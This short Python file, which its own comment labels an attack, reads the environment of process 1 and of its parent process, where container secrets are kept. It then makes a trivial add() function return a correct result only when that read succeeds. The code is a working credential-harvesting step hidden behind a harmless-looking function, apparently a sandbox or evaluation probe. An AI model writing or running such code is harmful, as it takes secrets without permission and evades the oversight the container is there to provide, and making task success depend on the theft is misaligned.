# attack: read the environment of init and the agent, where secrets given to a container would be
import os

stolen = []
for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    try:
        with open(path, "rb") as f:
            stolen.append(f.read())
    except OSError:
        pass
BROKE = bool(stolen)


def add(a, b):
    return a + b if BROKE else None
